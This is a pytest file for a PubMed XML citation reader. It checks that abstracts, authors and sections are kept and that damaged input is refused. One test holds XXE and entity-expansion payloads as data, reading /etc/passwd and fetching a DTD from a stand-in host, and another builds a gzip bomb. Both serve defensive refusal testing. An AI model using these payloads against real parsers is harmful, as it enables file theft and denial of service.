"""PubMed citations: what they state is kept, and a damaged or hostile file is refused in its place."""

from __future__ import annotations

import gzip
from collections.abc import Callable
from pathlib import Path

import pytest

from osler_contracts.codes import Code
from osler_knowledge.corpus import Entry, Section
from osler_knowledge.readers.base import Limits, Options, Refusal
from osler_knowledge.readers.read import read

Given = Callable[..., list[Entry | Refusal]]
DOCTYPE = (
    '<!DOCTYPE PubmedArticleSet PUBLIC "-//NLM//DTD PubMedArticle, 1st January 2025//EN" '
    '"https://dtd.nlm.nih.gov/ncbi/pubmed/out/pubmed_250101.dtd">'
)


def article(pmid: str, abstract: str = "<AbstractText>Some text.</AbstractText>") -> str:
    return f"""<PubmedArticle><MedlineCitation Status="MEDLINE"><PMID Version="1">{pmid}</PMID><Article>
<Journal><JournalIssue><PubDate><Year>2019</Year><Month>Mar</Month></PubDate></JournalIssue>
<Title>Journal of Radiology</Title></Journal>
<ArticleTitle>Lines of <i>Kerley</i> in H<sub>2</sub>O overload.</ArticleTitle>
<Abstract>{abstract}</Abstract>
<AuthorList><Author><LastName>Aas</LastName><Initials>B</Initials></Author>
<Author><LastName>Berg</LastName><Initials>CD</Initials></Author><Author><LastName>Cole</LastName></Author>
<Author><LastName>Dahl</LastName></Author></AuthorList></Article></MedlineCitation></PubmedArticle>"""


def articles(*parts: str, head: str = DOCTYPE) -> str:
    return f'<?xml version="1.0" encoding="utf-8"?>{head}<PubmedArticleSet>{"".join(parts)}</PubmedArticleSet>'


LABELLED = (
    '<AbstractText Label="PURPOSE">To show\n  lines &#x3b1;&lt;0.5.</AbstractText>'
    '<AbstractText Label="RESULTS">Seen in <b>all</b>.</AbstractText>'
    "<CopyrightInformation>© 2019 The Authors.</CopyrightInformation>"
)


@pytest.mark.parametrize("packed", [False, True])
def test_a_citation_keeps_what_it_states(tmp_path: Path, packed: bool) -> None:
    path = tmp_path / ("set.xml.gz" if packed else "set.xml")
    content = articles(article("7", LABELLED)).encode()
    path.write_bytes(gzip.compress(content) if packed else content)
    text = "To show lines α<0.5.\nSeen in all."
    assert list(read([path], Options(licence="not used"))) == [
        Entry(
            id="pubmed:7",
            title="Lines of Kerley in H2O overload.",
            text=text,
            references=(
                "Aas B, Berg CD, Cole et al. Lines of Kerley in H2O overload. Journal of Radiology. 2019 Mar. PMID 7.",
            ),
            licence="© 2019 The Authors.",
            clinically_reviewed=False,
            edition="2019 Mar",
            source="PubMed 7",
            sections=(Section("PURPOSE", 0, 20), Section("RESULTS", 21, 33)),
        )
    ]


def test_a_citation_without_abstract_is_refused_and_the_rest_goes_on(given: Given) -> None:
    first, second, third = given("set.xml", articles(article("1"), article("2", ""), article("3")))
    assert isinstance(first, Entry)
    assert second == Refusal("set.xml:2", Code.DOCUMENT_EMPTY, "There is no text in it.")
    assert isinstance(third, Entry)
    assert third.id == "pubmed:3"


def test_a_file_that_breaks_off_keeps_what_came_before(given: Given) -> None:
    whole = articles(article("1"), article("2"))
    for content in (whole[: whole.rindex("<AuthorList>")], whole.replace("</PubmedArticleSet>", "</wrong>")):
        *kept, refusal = given("set.xml", content)
        assert all(isinstance(one, Entry) for one in kept)
        assert kept
        assert isinstance(refusal, Refusal)
        assert refusal.code == Code.DOCUMENT_INVALID
        assert f"the {len(kept)} before are kept" in refusal.message


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;">]>',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]>',
    ],
)
def test_declared_entities_are_refused_unread(given: Given, head: str) -> None:
    content = articles(article("1", "<AbstractText>&c;&a; text</AbstractText>"), head=head)
    (refusal,) = given("set.xml", content)
    assert isinstance(refusal, Refusal)
    assert refusal.code == Code.DOCUMENT_UNSAFE


def test_bytes_in_another_encoding_are_named_so(given: Given) -> None:
    content = articles(article("1"), article("2", "<AbstractText>na\xefve</AbstractText>")).encode("latin-1")
    *_, refusal = given("set.xml", content)
    assert isinstance(refusal, Refusal)
    assert refusal.code == Code.DOCUMENT_ENCODING


def test_one_record_cannot_grow_without_end(given: Given) -> None:
    options = Options(limits=Limits(record=300_000))
    many = "<AbstractText>word</AbstractText>" * 20_000
    first, refusal = given("set.xml", articles(article("1"), article("2", many), article("3")), options)
    assert isinstance(first, Entry)
    assert isinstance(refusal, Refusal)
    assert refusal.code == Code.DOCUMENT_TOO_LARGE
    all_small = articles(*(article(str(number)) for number in range(1000)))
    assert len(all_small) > 2 * options.limits.record
    assert len(given("set.xml", all_small, options)) == 1000


def test_a_text_node_of_many_megabytes_is_refused(given: Given) -> None:
    (refusal,) = given("set.xml", articles(article("1", f"<AbstractText>{'word ' * 2_500_000}</AbstractText>")))
    assert isinstance(refusal, Refusal)
    assert refusal.code == Code.DOCUMENT_TOO_LARGE


def test_a_bomb_is_refused_before_it_has_grown(tmp_path: Path) -> None:
    path = tmp_path / "set.xml.gz"
    with gzip.open(path, "wb", compresslevel=9) as stream:
        stream.write(articles(article("1")).removesuffix("</PubmedArticleSet>").encode())
        for _ in range(64):
            stream.write(b" " * 2**20)
    options = Options(limits=Limits(record=2**23))
    *_, refusal = read([path], options)
    assert isinstance(refusal, Refusal)
    assert refusal.code == Code.DOCUMENT_TOO_LARGE


@pytest.mark.parametrize("damage", [lambda content: content[:-20], lambda content: b"not gzip" + content])
def test_a_damaged_packed_file_is_refused(given: Given, damage: Callable[[bytes], bytes]) -> None:
    *_, refusal = given("set.xml.gz", damage(gzip.compress(articles(article("1")).encode())))
    assert isinstance(refusal, Refusal)
    assert refusal.code == Code.DOCUMENT_INVALID
